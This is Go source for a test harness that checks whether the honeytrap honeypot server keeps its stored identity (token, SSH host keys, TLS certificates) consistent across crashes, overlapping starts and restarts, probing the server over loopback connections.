		for j, n := 0, r.Range(0, 2); j < n; j++ {
			f.Categories = append(f.Categories, r.PickStr([]string{"catA", "catB", "catC"}))
		}
		f.Categories = dedup(f.Categories)
		w.Filters = append(w.Filters, f)
	}
	return w
}

func dedup(xs []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, x := range xs {
		if !seen[x] {
			seen[x] = true
			out = append(out, x)
		}
	}
	return out
}

// killReps: how often the crash point between the two items of a pair is aimed at per single-service set
const killReps = 4

func tokenOnly(n int) [][]string {
	out := make([][]string, n)
	for i := range out {
		out[i] = []string{}
	}
	return out
}

func generate(r *hx.Rand, tier string) []Input {
	var ins []Input
	big := tier != "quick"
	nruns := 2
	if big {
		nruns = 3
	}
	// (1) every state of the token file a kill during the first write could leave before WithToken
	// wrote atomically (legacy data directories; first in the list: regression replay)
	ntok := 1
	if big {
		ntok = 3
	}
	for t := 0; t < ntok; t++ {
		tok := genToken(r)
		ins = append(ins, Input{Kind: "token-crash-empty", TokenFile: bp(""), Reachable: true, Runs: tokenOnly(nruns)})
		for k := 1; k < 20; k++ {
			ins = append(ins, Input{Kind: "token-crash-prefix", TokenFile: bp(tok[:k]), Reachable: true, Runs: tokenOnly(nruns)})
		}
		ins = append(ins, Input{Kind: "token-absent", Reachable: true, Runs: tokenOnly(nruns + 1)})
		ins = append(ins, Input{Kind: "token-complete", TokenFile: bp(tok), Reachable: true, Runs: tokenOnly(nruns)})
		// contents no start can have written (operator-edited): replaced like any malformed file
		ins = append(ins, Input{Kind: "token-foreign", TokenFile: bp(tok + "\n"), Runs: tokenOnly(2)})
		ins = append(ins, Input{Kind: "token-foreign", TokenFile: bp(tok[:19] + "w"), Runs: tokenOnly(2)})
		ins = append(ins, Input{Kind: "token-foreign", TokenFile: bp(strings.ToUpper(tok[:10]) + tok[10:]), Runs: tokenOnly(2)})
		ins = append(ins, Input{Kind: "token-foreign", TokenFile: bp(tok + "0"), Runs: tokenOnly(2)})
	}
	// (1b) every crash state of the token step itself (write token.tmp, rename): a leftover
	// token.tmp - empty, cut short, complete, foreign - next to no token file, next to a legacy
	// malformed token file and next to an established token; three starts (thorough: four) each
	for t := 0; t < ntok; t++ {
		tok, other := genToken(r), genToken(r)
		var tmps []*hx.B
		for _, k := range []int{0, 1, r.Range(2, 18), 19, 20} {
			tmps = append(tmps, bp(other[:k]))
		}
		tmps = append(tmps, bp("not an id\n"), bp(other+other[:5]))
		for _, tmp := range tmps {
			ins = append(ins, Input{Kind: "tmp-left-no-token", TmpFile: tmp, Reachable: true, Runs: tokenOnly(nruns + 1)})
		}
		for _, tf := range []string{"", tok[:r.Range(1, 19)]} {
			for _, tmp := range []*hx.B{tmps[0], tmps[2], tmps[4]} {
				ins = append(ins, Input{Kind: "tmp-left-legacy-token", TokenFile: bp(tf), TmpFile: tmp, Reachable: true, Runs: tokenOnly(nruns + 1)})
			}
		}
		for _, tmp := range []*hx.B{tmps[0], tmps[2], tmps[4], tmps[5]} {
			ins = append(ins, Input{Kind: "tmp-left-established-token", TokenFile: bp(tok), TmpFile: tmp, Reachable: true, Runs: tokenOnly(nruns + 1)})
		}
	}
	// one history with services on a directory holding a leftover token.tmp
	{
		other := genToken(r)
		ins = append(ins, Input{Kind: "tmp-left-history", TmpFile: bp(other[:9]), Reachable: true,
			Runs: [][]string{{"ssh", "agent"}, genSet(r, 1), {"ssh", "ftp"}}})
	}
	// (1c) histories in which the OPTIONS and the number of instances vary between starts:
	// ssh-auth with the private-key option appears and disappears next to the other ssh
	// service types; several instances share one stored identity from the very first start
	opts := [][][]string{
		{{"ssh"}, {"ssh", "ssh-authk"}, {"ssh-authk", "ssh-jail", "ssh-proxy"}, {"ssh", "ssh-auth"}, {"ssh-jail"}},
		{{"ssh-authk"}, {"ssh"}, {"ssh-authk", "ssh", "ssh-auth"}, {"ssh-proxy"}},
		{allSvcs, {"ssh2", "ftp2", "smtp", "ldap2", "agent"}, {"ssh-authk", "ssh-jail", "ftp", "ftp2"}},
		{{"ssh", "ssh2", "ftp", "ftp2", "smtp", "smtp2", "ldap", "ldap2"}, {"ssh-auth", "ssh-authk", "ftp", "smtp2"}, allSvcs},
	}
	if big {
		for k := 0; k < 6; k++ {
			var h [][]string
			for i, n := 0, r.Range(3, 5); i < n; i++ {
				set := genSet(r, 1)
				if i%2 == k%2 { // the operator key comes and goes
					set = append([]string{"ssh-authk", r.PickStr([]string{"ssh", "ssh-jail", "ssh-proxy", "ssh2"})}, set...)
				}
				h = append(h, dedup(set))
			}
			opts = append(opts, h)
		}
	}
	for _, h := range opts {
		ins = append(ins, Input{Kind: "history-options", Reachable: true, Runs: h})
	}
	// (1d) the token as DELIVERED: one channel named by 1..3 filters, several channels, a
	// channel twice in one filter, an undefined channel name, events admitted only by a later
	// filter of their channel, a catch-all after a restricted filter; three starts each
	wirings := []*Wiring{
		{Channels: []string{"c1"}, Filters: []Flt{{[]string{"c1"}, []string{"catA"}}, {[]string{"c1"}, []string{"catB"}}, {[]string{"c1"}, []string{"catC"}}}},
		{Channels: []string{"c1", "c2"}, Filters: []Flt{{[]string{"c1"}, []string{"catA"}}, {[]string{"c2"}, []string{"catB"}}, {[]string{"c1", "c2"}, []string{"catC"}}, {[]string{"c2", "c1"}, nil}}},
		{Channels: []string{"c1"}, Filters: []Flt{{[]string{"c1"}, []string{"catA"}}, {[]string{"c1"}, nil}}},
		{Channels: []string{"c1", "c2", "c3"}, Filters: []Flt{{[]string{"c1", "c1"}, []string{"catB"}}, {[]string{"cX", "c2"}, []string{"catA"}}, {[]string{"c3"}, []string{"catA", "catB"}}, {[]string{"c3"}, []string{"catD"}}}},
		{Channels: []string{"c1"}, Filters: []Flt{{[]string{"c1"}, nil}}},
	}
	nw := 3
	if big {
		nw = 16
	}
	for k := 0; k < nw; k++ {
		wirings = append(wirings, genWiring(r))
	}
	for k, w := range wirings {
		in := Input{Kind: "delivery", Reachable: true, Wiring: w, Runs: tokenOnly(3)}
		if k%4 == 1 { // with services: their own events pass through the same filters
			in.Runs = [][]string{{"ssh", "ftp"}, {"ssh"}, {"ssh", "ftp", "agent"}}
		}
		ins = append(ins, in)
	}
	// (1e) starts attempted while the store's directory lock is held elsewhere: the previous
	// start's process still running (overlapping processes), or a foreign flock
	all5 := []string{"ssh", "ftp", "smtp", "ldap", "agent"}
	ovl := []Input{
		{Runs: [][]string{{"ssh", "ftp", "agent"}, {"ssh", "ftp", "agent"}, {"ssh", "ftp", "smtp", "agent"}, all5}, Overlap: []string{"", "overlap", "", ""}},
		{Runs: [][]string{all5, {"ssh2", "ftp2"}, {"ssh", "ldap"}, all5, all5}, Overlap: []string{"", "", "overlap", "flock", ""}},
		{Runs: [][]string{{}, {}, {}, {}}, Overlap: []string{"", "overlap", "flock", ""}, Wiring: wirings[1]},
		{Runs: [][]string{{"ssh"}, {"ssh", "smtp"}, {"ssh", "smtp"}, {"ssh", "smtp", "agent"}}, Overlap: []string{"", "overlap", "overlap", ""}},
		{Runs: [][]string{all5, all5, all5}, Overlap: []string{"", "flock", ""}},
	}
	if big {
		for k := 0; k < 8; k++ {
			n := r.Range(3, 6)
			in := Input{}
			for i := 0; i < n; i++ {
				in.Runs = append(in.Runs, genSet(r, 1))
				m := ""
				if i > 0 && i < n-1 {
					m = r.PickStr([]string{"", "overlap", "flock", "overlap"})
				}
				in.Overlap = append(in.Overlap, m)
			}
			ovl = append(ovl, in)
		}
	}
	for _, in := range ovl {
		in.Kind, in.Reachable = "overlap", true
		ins = append(ins, in)
	}
	// (1f) how the data directory is SPELLED, per start: absolute, with a trailing slash, with a
	// name/.. pair, relative to the working directory (three ways), through ~ (directory below
	// the user's home); first starts on a fresh directory through every kind of spelling
	sps := []Input{
		{Spell: []string{"abs", "rel", "dotdot", "slash", "reldot", "relup"}, Runs: tokenOnly(6)},
		{Spell: []string{"rel", "rel", "abs"}, Runs: [][]string{{"ssh", "ftp"}, {"ssh"}, {"ssh", "ftp"}}},
		{Spell: []string{"dotdot", "abs", "relup", "dotdot"}, Runs: tokenOnly(4)},
		{Home: true, Spell: []string{"tilde", "tilde", "tilde"}, Runs: tokenOnly(3)},
		{Home: true, Spell: []string{"tilde", "abs", "tildeslash", "rel", "tilde"}, Runs: tokenOnly(5)},
		{Home: true, Spell: []string{"tilde", "tilde", "abs"}, Runs: [][]string{{"ssh", "agent"}, {"ssh", "smtp"}, {"ssh", "smtp", "agent"}}},
		{Home: true, Spell: []string{"abs", "tilde", "tilde"}, Runs: tokenOnly(3)},
	}
	if big {
		kinds := []string{"abs", "slash", "dotdot", "rel", "reldot", "relup", "tilde", "tildeslash"}
		for k := 0; k < 10; k++ {
			in := Input{Home: k%2 == 0}
			for i, n := 0, r.Range(3, 5); i < n; i++ {
				kk := kinds[r.Intn(len(kinds))]
				if !in.Home && strings.HasPrefix(kk, "tilde") {
					kk = "rel"
				}
				in.Spell = append(in.Spell, kk)
				if k%3 == 0 {
					in.Runs = append(in.Runs, genSet(r, 1))
				} else {
					in.Runs = append(in.Runs, []string{})
				}
			}
			sps = append(sps, in)
		}
	}
	for _, in := range sps {
		in.Kind, in.Reachable = "spelling", true
		ins = append(ins, in)
	}
	// (1g) the REAL command (cmd/honeytrap New().Run with -c/-d: its own option list and
	// order), the working directory changing between starts
	reals := []Input{
		{Runs: tokenOnly(3), Cwd: []string{"a", "b", "a"}},
		{Runs: [][]string{{"ssh", "ftp"}, {"ssh"}, {"ssh", "ftp", "agent"}}, Cwd: []string{"", "a", "b"}},
		{Home: true, Spell: []string{"tilde", "tilde", "abs"}, Runs: tokenOnly(3), Cwd: []string{"a", "b", "b"}},
		{Spell: []string{"rel", "abs", "reldot"}, Runs: tokenOnly(3)},
		{Runs: tokenOnly(3), TokenFile: bp(""), Cwd: []string{"a", "", "b"}},
	}
	for _, in := range reals {
		in.Kind, in.Reachable, in.RealCmd = "real-command", true, true
		ins = append(ins, in)
	}
	// own option list, working directory changing
	ins = append(ins, Input{Kind: "spelling", Reachable: true, Runs: tokenOnly(3), Cwd: []string{"a", "b", ""}})
	// (2) restart histories of length 2..5 with varying service sets
	nh := 6
	if big {
		nh = 16
	}
	for h := 0; h < nh; h++ {
		n := 2 + h%4
		in := Input{Kind: "history", Reachable: true}
		for i := 0; i < n; i++ {
			in.Runs = append(in.Runs, genSet(r, 1))
		}
		if h == 0 { // all identities from the first start on
			in.Runs[0] = []string{"ssh", "ftp", "smtp", "ldap", "agent"}
		}
		if h%3 == 2 { // combined with an interrupted token write
			tok := genToken(r)
			in.TokenFile = bp(tok[:r.Intn(20)])
			in.Kind = "history-token-crash"
		}
		ins = append(ins, in)
	}
	// (3) kill between Set(pemkey) and Set(pemcert): key present, certificate absent
	seeds := [][]string{{"ftp"}, {"smtp", "ldap"}, {"ftp", "smtp", "ldap"}}
	if big {
		seeds = append(seeds, []string{"ldap"}, []string{"smtp"}, []string{"ftp", "ldap"})
	}
	for _, s := range seeds {
		in := Input{Kind: "kv-crash-key-only", Reachable: true, SeedKeys: s}
		first := append([]string{}, s...)
		if r.Bool() {
			first = append(first, "ssh")
		}
		in.Runs = [][]string{first, genSet(r, 1), []string{"ssh", "ftp", "smtp", "ldap", "agent"}}
		ins = append(ins, in)
	}
	// (5) (listed before (4): its replays are the repeatable ones) crash points at STORAGE granularity: the first
	// start kills itself the moment n of the identity items its instances create are stored, n = 1..all of them
	// (watchItems in child.go); then undisturbed starts on what was left.  The state between the two items of a
	// key/certificate pair is the one that matters: for the single-service sets it is aimed at killReps times (a
	// kill that lands late leaves a completed-looking state), each time followed by a different history
	ksets := [][]string{{"ldap"}, {"ftp"}, {"smtp"}, {"ldap", "ftp", "smtp"}, {"ssh", "agent"}}
	if big {
		ksets = append(ksets, []string{"ftp", "ldap"}, []string{"ssh", "smtp"}, []string{"ldap", "ldap2"}, []string{"ssh", "ssh-auth", "agent"}, all5)
	}
	for _, set := range ksets {
		with := func(more ...string) []string { return dedup(append(append([]string{}, set...), more...)) }
		follow := [][][]string{{set, set}, {set, set, all5}, {set, with("ssh"), set}, {set, all5}}
		ni := len(itemsOf(set))
		for n := 1; n <= ni; n++ {
			reps := 1
			if n < ni && len(set) == 1 {
				reps = killReps
			}
			for k := 0; k < reps; k++ {
				ins = append(ins, Input{Kind: "kill-items", Reachable: true, Kill: set, KillItems: n, Runs: follow[(k+n-1)%len(follow)]})
			}
		}
	}
	// (4) kills of a starting child at random instants
	nk, ntk, killMax := 6, 6, 1000
	if big { // more children run at once, a start takes longer
		nk, ntk, killMax = 30, 30, 1600
	}
	for i := 0; i < nk; i++ {
		set := []string{"ssh", "ftp", "smtp", "ldap", "agent"}
		if i%3 == 2 {
			set = genSet(r, 2)
		}
		ins = append(ins, Input{Kind: "kill-start", Reachable: true, Kill: set, KillMs: r.Range(0, killMax),
			Runs: [][]string{set, []string{"ssh", "ftp", "smtp", "ldap", "agent"}}})
	}
	for i := 0; i < ntk; i++ {
		ins = append(ins, Input{Kind: "kill-token-start", Reachable: true, Kill: []string{}, KillMs: r.Range(0, 12), Runs: tokenOnly(2)})
	}
	return ins
}

func main() {
	if len(os.Args) >= 3 && os.Args[1] == "-c18-child" {
		childMain(os.Args[2])
		return
	}
	var err error
	if self, err = os.Executable(); err != nil {
		hx.Fatal("os.Executable: %v", err)
	}
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)
	var ins []Input
	if o.Only != "" {
		var in Input
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			hx.Fatal("replay: %v", err)
		}
		ins = []Input{in}
	} else {
		ins = generate(r, o.Tier)
	}
	scratch := filepath.Join(o.Out, "dirs")
	os.RemoveAll(scratch)
	homeScratch = filepath.Join(homeDir(), fmt.Sprintf(".verif-c18-%d", os.Getpid()))
	defer os.RemoveAll(homeScratch)
	if old, _ := filepath.Glob(filepath.Join(homeDir(), ".verif-c18-*")); len(old) > 0 { // left by an aborted run
		for _, d := range old {
			if fi, err := os.Stat(d); err == nil && time.Since(fi.ModTime()) > 2*time.Hour {
				os.RemoveAll(d)
			}
		}
	}
	type res struct {
		ob    Obs
		crash string
	}
	out := make([]res, len(ins))
	// heavy cases (RSA key generation) first, a bounded number of children at a time
	order := make([]int, len(ins))
	for i := range order {
		order[i] = i
	}
	weight := func(in Input) int {
		w := 0
		for _, s := range in.Runs {
			w += len(s)
		}
		return w + len(in.Kill)
	}
	sort.SliceStable(order, func(a, b int) bool { return weight(ins[order[a]]) > weight(ins[order[b]]) })
	var wg sync.WaitGroup
	sem := make(chan struct{}, 8)
	for _, i := range order {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int) {
			defer wg.Done()
			defer func() { <-sem }()
			ob, crash := runCase(ins[i], filepath.Join(scratch, fmt.Sprintf("c%d", i)))
			out[i] = res{ob, crash}
		}(i)
	}
	wg.Wait()
	dist := map[string]int{}
	var cases []hx.Case
	for i, in := range ins {
		ob, crash := out[i].ob, out[i].crash
		dist["kind:"+in.Kind]++
		dist[fmt.Sprintf("starts:%d", len(in.Runs))]++
		for _, s := range in.Runs {
			dist[fmt.Sprintf("services-per-start:%d", len(s))]++
		}
		if ob.Disk0 != nil && in.Kill != nil {
			n := 0
			for _, it := range ob.Disk0.KV {
				if it.Present {
					n++
				}
			}
			dist[fmt.Sprintf("kill-left-items:%d", n)]++
			switch {
			case ob.Disk0.TokenFile == nil:
				dist["kill-left-token:absent"]++
			case len(*ob.Disk0.TokenFile) == 20:
				dist["kill-left-token:complete"]++
			default:
				dist[fmt.Sprintf("kill-left-token:%d-bytes", len(*ob.Disk0.TokenFile))]++
			}
		}
		if ob.Disk0 != nil && in.KillItems > 0 {
			has := func(name string) bool { return ob.Disk0.KV[name].Present }
			m := 0
			for _, k := range itemsOf(in.Kill) {
				if has(kvItems[k].Name) {
					m++
				}
			}
			switch {
			case m == in.KillItems:
				dist["killitems:exact"]++
			case m > in.KillItems:
				dist["killitems:missed-window"]++ // landed late: more items stored than aimed at
			default:
				dist["killitems:early"]++ // fewer than aimed at (the start ended first, or a record was seen growing in two steps)
			}
			for _, ns := range []string{"ftp", "smtp", "ldap"} {
				switch k, c := has(ns+".pemkey"), has(ns+".pemcert"); {
				case k && !c:
					dist["killitems:"+ns+":key-only"]++
				case c && !k:
					dist["killitems:"+ns+":cert-only"]++
				}
			}
		}
		cases = append(cases, hx.Case{ID: i, Kind: in.Kind, Input: in, Obs: ob, Crash: crash, Coq: coqCase(i, in, ob)})
	}
	if o.Only == "" {
		os.RemoveAll(scratch)
	}
	os.RemoveAll(homeScratch)
	hx.Write(o, "C18", "identity", "From HT Require Import Common.Bytes C18.Model C18.Check.", "case", cases, dist, nil, 100)
}
