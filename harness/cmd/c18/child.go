// C18 child process: ONE start of the real server (server.New with WithConfig, WithDataDir,
// WithToken in the order of cmd/honeytrap/main.go, then Run) on a data directory shared with
// earlier/later children, followed by client-side probes of the identities and a dump of
// the persisted state.  badger opens one database per process, hence one child per start.
package main

import (
	"bufio"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/mimoo/disco/libdisco"
	"golang.org/x/crypto/ssh"

	honeytrapcmd "github.com/honeytrap/honeytrap/cmd/honeytrap"
	"github.com/honeytrap/honeytrap/config"
	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	_ "github.com/honeytrap/honeytrap/listener/agent"
	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/storage"

	_ "github.com/honeytrap/honeytrap/services/ftp"
	_ "github.com/honeytrap/honeytrap/services/ldap"
	_ "github.com/honeytrap/honeytrap/services/smtp"
	_ "github.com/honeytrap/honeytrap/services/ssh"

	"verif/harness/hx"
)

// Job is what the parent asks one child to do.
type Job struct {
	Mode     string          `json:"mode"` // run | dump | seed
	DataDir  string          `json:"datadir"`
	Services []string        `json:"services"`         // instance names, see svcDefs (+ "agent")
	OpKey    string          `json:"op_key,omitempty"` // PEM private key for the private-key option of ssh-authk
	Seed     map[string]hx.B `json:"seed,omitempty"`
	Out      string          `json:"out"`
	Ready    string          `json:"ready,omitempty"` // touched right before server.New (kill timing)
	Wiring   *Wiring         `json:"wiring,omitempty"`
	RealCmd  bool            `json:"real_cmd,omitempty"` // run the REAL command (cmd/honeytrap New().Run with -c and -d) instead of building the option list here
	Spell    string          `json:"spell,omitempty"`    // the data directory as handed to WithDataDir / -d (default: DataDir)
	Cwd      string          `json:"cwd,omitempty"`      // working directory of the start
	Hold     bool            `json:"hold,omitempty"`     // stay alive (holding the store) after the observation is written
	// KillItems n > 0: a goroutine of this child watches the store and kills the process (SIGKILL) as soon as n of the
	// identity items the configured instances create are stored
	KillItems int `json:"kill_items,omitempty"`
}

// ItemObs describes one persisted kv item after the start.
type ItemObs struct {
	Present bool `json:"present"`
	Digest  hx.B `json:"digest,omitempty"` // sha256(value)[:6]
	Len     int  `json:"len,omitempty"`
	WF      bool `json:"wf"`            // the real library accepts the value (for a certificate: and it pairs with the stored key)
	Pub     hx.B `json:"pub,omitempty"` // digest of the public projection of the stored value
}

// Wiring: capture channels and [[filter]] sections of a start's configuration.
type Wiring struct {
	Channels []string `json:"channels"`
	Filters  []Flt    `json:"filters"`
}
type Flt struct {
	Channels   []string `json:"channel"`
	Categories []string `json:"categories,omitempty"`
}

// Arrival: an event as it arrived on a capture channel (token field read at that moment:
// the event object is shared between subscribers and wrappers write into it).
type Arrival struct {
	Chan  string `json:"chan"`
	Cat   string `json:"-"`
	Has   bool   `json:"has_token"`
	Token hx.B   `json:"token"`
}

var probeCats = []string{"catA", "catB", "catC", "catD"}

type ChildObs struct {
	Failed    bool                       `json:"failed,omitempty"`     // filled in by the parent: the process ended without completing the start
	Deliv     map[string][]Arrival       `json:"deliveries,omitempty"` // probe event category -> arrivals on the generated channels, in order
	Started   bool                       `json:"started"`
	NewErr    string                     `json:"new_err,omitempty"`
	Token     hx.B                       `json:"token"` // "token" field of an event delivered to a configured channel
	TokenSeen int                        `json:"token_values_seen"`
	TokenFile *hx.B                      `json:"token_file"` // nil: absent
	TmpFiles  map[string]hx.B            `json:"tmp_files,omitempty"`
	KV        map[string]ItemObs         `json:"kv"`
	Seen      map[string]map[string]hx.B `json:"seen"` // per configured service instance, per host key algorithm / certificate
	// type it advertises: the identity PRESENTED to a client restricted to that algorithm (digest; empty: not observable)
	Errs []string `json:"errs,omitempty"`
}

var kvItems = []struct{ Name, NS, Key string }{
	{"ssh.private-key", "ssh", "private-key"},
	{"ftp.pemkey", "ftp", "pemkey"}, {"ftp.pemcert", "ftp", "pemcert"},
	{"smtp.pemkey", "smtp", "pemkey"}, {"smtp.pemcert", "smtp", "pemcert"},
	{"ldap.pemkey", "ldap", "pemkey"}, {"ldap.pemcert", "ldap", "pemcert"},
	{"agent.key", "agent", "key"},
}

func dig(b []byte) hx.B { h := sha256.Sum256(b); return hx.B(h[:6]) }

// ---- registry entries of the child: recording listener and capture channel ----
type recL struct {
	accept  chan net.Conn
	started chan struct{}
	once    sync.Once
	bus     pushers.Channel
}

func (l *recL) AddAddress(a net.Addr)        {}
func (l *recL) SetChannel(c pushers.Channel) { l.bus = c }
func (l *recL) Start(ctx context.Context) error {
	l.once.Do(func() { close(l.started) })
	return nil
}
func (l *recL) Accept() (net.Conn, error) { return <-l.accept, nil }

type capC struct {
	Name string `toml:"name"`
}

var (
	capMu    sync.Mutex
	arrivals []Arrival
)

func (c *capC) Send(e event.Event) {
	capMu.Lock()
	arrivals = append(arrivals, Arrival{Chan: c.Name, Cat: e.Get("category"), Has: e.Has("token"), Token: hx.B(e.Get("token"))})
	capMu.Unlock()
}

var theL = &recL{accept: make(chan net.Conn), started: make(chan struct{})}

func init() {
	listener.Register("c18-rec", func(opts ...func(listener.Listener) error) (listener.Listener, error) {
		for _, o := range opts {
			o(theL)
		}
		return theL, nil
	})
	pushers.Register("c18-cap", func(opts ...func(pushers.Channel) error) (pushers.Channel, error) {
		c := &capC{}
		for _, o := range opts {
			o(c)
		}
		return c, nil
	})
}

// svcDefs: configured service instance -> type, port, kind of probe, whether the
// instance carries the private-key option (the only documented option touching identity)
var svcDefs = map[string]struct {
	Type  string
	Port  int
	Probe string
	OpKey bool
}{
	"ssh": {"ssh-simulator", 22, "ssh", false}, "ssh-auth": {"ssh-auth", 2222, "ssh", false},
	"ssh-authk": {"ssh-auth", 2223, "ssh", true}, "ssh-jail": {"ssh-jail", 2224, "ssh", false},
	"ssh-proxy": {"ssh-proxy", 2225, "ssh", false}, "ssh2": {"ssh-simulator", 2226, "ssh", false},
	"ftp": {"ftp", 21, "ftp", false}, "ftp2": {"ftp", 2121, "ftp", false},
	"smtp": {"smtp", 25, "smtp", false}, "smtp2": {"smtp", 2525, "smtp", false},
	"ldap": {"ldap", 389, "ldap", false}, "ldap2": {"ldap", 3389, "ldap", false},
}

func tomlStrs(xs []string) string {
	var q []string
	for _, x := range xs {
		q = append(q, fmt.Sprintf("%q", x))
	}
	return "[" + strings.Join(q, ",") + "]"
}

// childToml: the generated channels and filters first, in order; then the catch-all
// channel "all" behind ONE filter without restrictions, as the LAST subscription (so that
// the token it writes into the shared event object cannot mask an earlier arrival).
func childToml(svcs []string, opKey string, w *Wiring) string {
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"c18-rec\"\n\n")
	if w != nil {
		for _, c := range w.Channels {
			fmt.Fprintf(&sb, "[channel.%s]\ntype=\"c18-cap\"\nname=%q\n\n", c, c)
		}
		for _, f := range w.Filters {
			fmt.Fprintf(&sb, "[[filter]]\nchannel=%s\n", tomlStrs(f.Channels))
			if len(f.Categories) > 0 {
				fmt.Fprintf(&sb, "categories=%s\n", tomlStrs(f.Categories))
			}
			sb.WriteString("\n")
		}
	}
	sb.WriteString("[channel.all]\ntype=\"c18-cap\"\nname=\"all\"\n\n[[filter]]\nchannel=[\"all\"]\n\n")
	for _, s := range svcs {
		d, ok := svcDefs[s]
		if !ok {
			continue
		}
		fmt.Fprintf(&sb, "[service.%s]\ntype=%q\n", s, d.Type)
		if d.OpKey {
			fmt.Fprintf(&sb, "private-key=%s%s%s\n", "'''", opKey, "'''")
		}
		fmt.Fprintf(&sb, "\n[[port]]\nport=\"tcp/%d\"\nservices=[%q]\n\n", d.Port, s)
	}
	return sb.String()
}

type aconn struct {
	net.Conn
	l net.Addr
}

func (c *aconn) LocalAddr() net.Addr { return c.l }

// connect hands the server one end of a loopback TCP connection whose local address
// shows the configured port, and returns the client end.
func connect(port int) (net.Conn, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	defer ln.Close()
	cc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		return nil, err
	}
	sc, err := ln.Accept()
	if err != nil {
		return nil, err
	}
	select {
	case theL.accept <- &aconn{Conn: sc, l: &net.TCPAddr{IP: net.ParseIP("127.0.0.1"), Port: port}}:
	case <-time.After(10 * time.Second):
		return nil, fmt.Errorf("server does not accept")
	}
	cc.SetDeadline(time.Now().Add(20 * time.Second))
	return cc, nil
}

func readLineWith(br *bufio.Reader, prefix string) error {
	for i := 0; i < 50; i++ {
		line, err := br.ReadString('\n')
		if err != nil {
			return err
		}
		if strings.HasPrefix(line, prefix) {
			return nil
		}
		if len(line) >= 4 && line[3] == ' ' {
			return fmt.Errorf("unexpected reply %q", strings.TrimSpace(line))
		}
	}
	return fmt.Errorf("no %q reply", prefix)
}

// tlsModes: client configurations that admit only ECDSA/Ed25519 certificates, only RSA
// certificates (TLS 1.2 suites name the certificate type), and anything.
var tlsModes = []*tls.Config{
	{InsecureSkipVerify: true, MaxVersion: tls.VersionTLS12, CipherSuites: []uint16{
		tls.TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, tls.TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384,
		tls.TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305, tls.TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA, tls.TLS_ECDHE_ECDSA_WITH_AES_256_CBC_SHA}},
	{InsecureSkipVerify: true, MaxVersion: tls.VersionTLS12, CipherSuites: []uint16{
		tls.TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, tls.TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384,
		tls.TLS_ECDHE_RSA_WITH_CHACHA20_POLY1305, tls.TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA, tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA,
		tls.TLS_RSA_WITH_AES_128_GCM_SHA256, tls.TLS_RSA_WITH_AES_128_CBC_SHA}},
	{InsecureSkipVerify: true},
}

var tlsCfg = tlsModes[2]
var tlsKeyAlg string // public key algorithm of the last leaf seen

// probeTLSAll runs a service's STARTTLS dialogue once per client mode and records the
// leaf certificate per certificate type the service turned out to offer.
func probeTLSAll(probe func(int) ([]byte, error), port int) (map[string][]byte, error) {
	out := map[string][]byte{}
	var last error
	for _, m := range tlsModes {
		tlsCfg = m
		v, err := probe(port)
		if err != nil {
			last = err
			continue
		}
		name := "tls-" + strings.ToLower(tlsKeyAlg)
		if old, ok := out[name]; ok && string(old) != string(v) {
			name += "-other"
		}
		out[name] = v
	}
	tlsCfg = tlsModes[2]
	if len(out) == 0 {
		return nil, last
	}
	return out, nil
}

func tlsLeaf(c net.Conn) ([]byte, error) {
	tc := tls.Client(c, tlsCfg.Clone())
	if err := tc.Handshake(); err != nil {
		return nil, err
	}
	st := tc.ConnectionState()
	if len(st.PeerCertificates) == 0 {
		return nil, fmt.Errorf("no certificate presented")
	}
	tlsKeyAlg = st.PeerCertificates[0].PublicKeyAlgorithm.String()
	return st.PeerCertificates[0].Raw, nil
}

// sshAdvertised reads the server's KEXINIT and returns its server_host_key_algorithms.
func sshAdvertised(port int) ([]string, error) {
	cc, err := connect(port)
	if err != nil {
		return nil, err
	}
	defer cc.Close()
	br := bufio.NewReader(cc)
	fmt.Fprintf(cc, "SSH-2.0-c18probe\r\n")
	for i := 0; ; i++ {
		line, err := br.ReadString('\n')
		if err != nil {
			return nil, err
		}
		if strings.HasPrefix(line, "SSH-") {
			break
		}
		if i > 20 {
			return nil, fmt.Errorf("no ssh banner")
		}
	}
	hdr := make([]byte, 5)
	if _, err := io.ReadFull(br, hdr); err != nil {
		return nil, err
	}
	n := int(hdr[0])<<24 | int(hdr[1])<<16 | int(hdr[2])<<8 | int(hdr[3])
	if n < 2 || n > 1<<16 {
		return nil, fmt.Errorf("bad packet length %d", n)
	}
	body := make([]byte, n-1)
	if _, err := io.ReadFull(br, body); err != nil {
		return nil, err
	}
	pay := body[:len(body)-int(hdr[4])]
	if len(pay) < 17 || pay[0] != 20 {
		return nil, fmt.Errorf("first packet is not KEXINIT")
	}
	pay = pay[17:]
	var lists []string
	for i := 0; i < 2; i++ {
		if len(pay) < 4 {
			return nil, fmt.Errorf("short KEXINIT")
		}
		l := int(pay[0])<<24 | int(pay[1])<<16 | int(pay[2])<<8 | int(pay[3])
		if len(pay) < 4+l {
			return nil, fmt.Errorf("short KEXINIT")
		}
		lists = append(lists, string(pay[4:4+l]))
		pay = pay[4+l:]
	}
	if lists[1] == "" {
		return nil, nil
	}
	return strings.Split(lists[1], ","), nil
}

// probeSSHAll: one handshake per host key algorithm the server advertises, the client
// restricted to that algorithm.
func probeSSHAll(port int) (map[string][]byte, error) {
	algs, err := sshAdvertised(port)
	if err != nil {
		return nil, fmt.Errorf("reading the advertised host key algorithms: %v", err)
	}
	if len(algs) == 0 {
		return nil, fmt.Errorf("no host key algorithm advertised")
	}
	out := map[string][]byte{}
